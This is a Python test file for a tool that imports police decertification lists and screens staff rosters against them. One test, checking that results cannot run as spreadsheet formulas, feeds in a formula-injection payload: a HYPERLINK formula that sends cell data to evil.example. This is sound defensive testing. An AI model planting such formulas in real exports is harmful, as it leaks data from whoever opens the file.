"""`custodes registry …` on the test database: import, hold, check and screen."""

from __future__ import annotations

import csv
from pathlib import Path

from typer.testing import CliRunner, Result

from custodes.cli import app
from custodes.web.accounts.models import Role
from custodes.web.registry.models import Entry, ListImport, Roster
from custodes.web.trail.models import TrailEvent
from tests.lists_data import shared_file
from tests.web.audit_helpers import add_user
from tests.web.conftest import Org

FIXTURES = Path(__file__).parent.parent / "fixtures" / "registry"


def cli(*args: str) -> Result:
    """Run `custodes registry …` in this process, on the test database."""
    return CliRunner().invoke(app, ["registry", *args])


def test_import_reports_every_rejected_row_and_a_reimport_changes_nothing(db: None) -> None:
    workbook = str(shared_file("virginia-decertification", "DCJS_Decertification_List_Apr25.xlsx"))
    first = cli("import", "virginia", workbook)
    assert first.exit_code == 0, first.output
    assert "432 entries read, 432 added, 0 changed, 0 unchanged; 2 rows rejected" in first.output
    assert "line 147, Decert Date" in first.output
    again = cli("import", "virginia", workbook)
    assert "0 added, 0 changed, 432 unchanged" in again.output
    assert Entry.objects.count() == 432


def test_a_list_missing_a_required_column_imports_nothing(db: None, tmp_path: Path) -> None:
    bad = tmp_path / "list.csv"
    bad.write_text("person_ref,first_name\nA1,Ann\n", encoding="utf-8")
    done = cli("import", "generic", str(bad))
    assert done.exit_code == 1
    assert "list.csv" in done.output and "last_name" in done.output
    assert "Nothing was imported." in done.output
    assert not ListImport.objects.exists()


def test_a_column_mapping_reads_a_list_that_names_its_columns_otherwise(
    db: None, tmp_path: Path
) -> None:
    theirs = tmp_path / "theirs.csv"
    text = (FIXTURES / "new-list.csv").read_text(encoding="utf-8")
    theirs.write_text(text.replace("last_name", "surname", 1), encoding="utf-8")
    done = cli("import", "generic", str(theirs), "--column", "last_name=surname")
    assert done.exit_code == 0, done.output
    assert Entry.objects.filter(last_name="Holloway").exists()


def test_screen_writes_the_results_file_of_the_spec(db: None, tmp_path: Path) -> None:
    assert cli("import", "generic", str(FIXTURES / "new-list.csv")).exit_code == 0
    out = tmp_path / "results.csv"
    done = cli("screen", str(FIXTURES / "roster.csv"), "--force", "XF", "--out", str(out))
    assert done.exit_code == 0, done.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [
        "person_ref",
        "entry_id",
        "list_record_ref",
        "match_probability",
        "match_weight",
        "explanation",
        "strength",
    ]
    assert [(r["person_ref"], r["list_record_ref"]) for r in rows] == [("XF-101", "GB-1")]
    assert float(rows[0]["match_probability"]) > 0.9
    assert rows[0]["strength"] == "likely"
    assert Roster.objects.get().people.count() == 4


def test_check_prints_the_candidates_and_why(db: None) -> None:
    workbook = str(shared_file("virginia-decertification", "DCJS_Decertification_List_Apr25.xlsx"))
    assert cli("import", "virginia", workbook).exit_code == 0
    assert cli("import", "generic", str(FIXTURES / "new-list.csv")).exit_code == 0
    done = cli(
        "check",
        "--first-name",
        "Maggie",
        "--last-name",
        "Holloway",
        "--birth-date",
        "1984-03-12",
        "--sex",
        "F",
    )
    assert done.exit_code == 0, done.output
    assert "Margaret Anne Holloway" in done.output and "GB-EAW barred" in done.output


def test_a_name_too_long_for_the_registry_is_a_rejected_row(db: None, tmp_path: Path) -> None:
    """A 5,000-character name is one rejected row, named by line and field; the rest import."""
    lines = (FIXTURES / "new-list.csv").read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2].replace("Daniel", "D" * 5000)
    bad = tmp_path / "list.csv"
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = cli("import", "generic", str(bad))
    assert done.exit_code == 0, done.output
    assert "1 entries read, 1 added" in done.output and "1 rows rejected" in done.output
    assert (
        "rejected: list.csv, line 3, first_name: is 5,000 characters long; the most the field "
        "holds is 100" in done.output
    )
    assert "Ensure this value" not in done.output  # no raw Django message
    assert list(Entry.objects.values_list("last_name", flat=True)) == ["Holloway"]
    (imported,) = ListImport.objects.all()
    assert imported.rejected == [
        {
            "file": "list.csv",
            "line": 3,
            "field": "first_name",
            "why": "is 5,000 characters long; the most the field holds is 100",
        }
    ]


def test_a_field_too_long_for_any_reader_refuses_the_file_saying_so(
    db: None, tmp_path: Path
) -> None:
    """A 200,000-character field is blamed on its length, not a stray quote; nothing imports."""
    lines = (FIXTURES / "new-list.csv").read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2].replace("Resigned during", "R" * 200_000)
    bad = tmp_path / "list.csv"
    bad.write_text("\n".join(lines) + "\n", encoding="utf-8")
    done = cli("import", "generic", str(bad))
    assert done.exit_code == 1
    assert "list.csv, line 3: the field 'reason' is longer than 131,072 characters" in done.output
    assert "quote" not in done.output
    assert "Nothing was imported." in done.output
    assert not Entry.objects.exists() and not ListImport.objects.exists()


def test_screen_results_cannot_run_as_spreadsheet_formulas(db: None, tmp_path: Path) -> None:
    """The attack: a roster reference that runs when vetting opens the results in a spreadsheet."""
    listed = tmp_path / "list.csv"
    listed.write_text(
        (FIXTURES / "new-list.csv").read_text(encoding="utf-8").replace("GB-2,", "=1+2,"),
        encoding="utf-8",
    )
    assert cli("import", "generic", str(listed)).exit_code == 0
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "person_ref,first_name,middle_name,last_name,birth_date,sex\n"
        '"=HYPERLINK(""http://evil.example/?""&A1,""Open"")",Margaret,Anne,Holloway,1984-03-12,F\n'
        "@SUM(1+1),Daniel,,Okafor,,\n",
        encoding="utf-8",
    )
    out = tmp_path / "results.csv"
    done = cli("screen", str(roster), "--force", "XF", "--out", str(out))
    assert done.exit_code == 0, done.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    by_ref = {r["person_ref"]: r for r in rows}
    assert set(by_ref) == {'\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(1+1)"}
    okafor = by_ref["'@SUM(1+1)"]
    assert okafor["list_record_ref"] == "'=1+2"
    for row in rows:
        assert not row["person_ref"].startswith(("=", "+", "-", "@"))
    # The numbers custodes writes are left as numbers: a weaker match's weight is negative.
    assert okafor["strength"] == "weaker"
    assert float(okafor["match_weight"]) < 0 and okafor["match_weight"].startswith("-")
    assert okafor["explanation"].startswith("name only: ")


def test_check_of_a_name_as_listed_prints_a_weaker_candidate(db: None) -> None:
    """`registry check` on Deangelo Freeman, no middle initial: never a clean result."""
    workbook = str(shared_file("virginia-decertification", "DCJS_Decertification_List_Apr25.xlsx"))
    assert cli("import", "virginia", workbook).exit_code == 0
    done = cli("check", "--first-name", "Deangelo", "--last-name", "Freeman")
    assert done.exit_code == 0, done.output
    assert "No candidate above p=0.5." in done.output
    assert "0 likely matches, 1 weaker candidate" in done.output
    assert "weaker p=0.103" in done.output and "Deangelo M Freeman" in done.output
    assert (
        "why: name only: last_name: exact; first_name: exact; no middle name given" in done.output
    )


def test_searched_for_finds_who_searched_the_registry_for_a_name(org: Org, tmp_path: Path) -> None:
    """Holding the pseudonym key, an investigator learns who searched for a name, and when."""
    assert cli("import", "generic", str(FIXTURES / "new-list.csv")).exit_code == 0
    vetter = add_user(org, "vetter", Role.VETTING_OFFICER, "vetting", "XF-vet")
    org.client(vetter).get("/registry/", {"q": "holloway"})
    done = cli("searched-for", "Holloway")
    assert done.exit_code == 0, done.output
    assert "1 search included all of these words:" in done.output
    assert ": vetter; entries shown: " in done.output
    assert "No registry search" in cli("searched-for", "Okafor").output
    asked = list(TrailEvent.objects.filter(action="searched-for"))
    assert len(asked) == 2
    assert all("holloway" not in str(event.changes).casefold() for event in asked)


def test_a_roster_held_with_a_jurisdiction_names_agencies_as_its_lists_do(
    db: None, tmp_path: Path
) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text("person_ref,first_name,last_name,agency\nXV-1,Pat,Example,HAMPTON PD\n")
    done = cli("roster", "staff", str(roster), "--force", "XV", "--jurisdiction", "US-VA")
    assert done.exit_code == 0, done.output
    (held,) = Roster.objects.all()
    assert [p.agency for p in held.people.all()] == ["Hampton Police Division"]
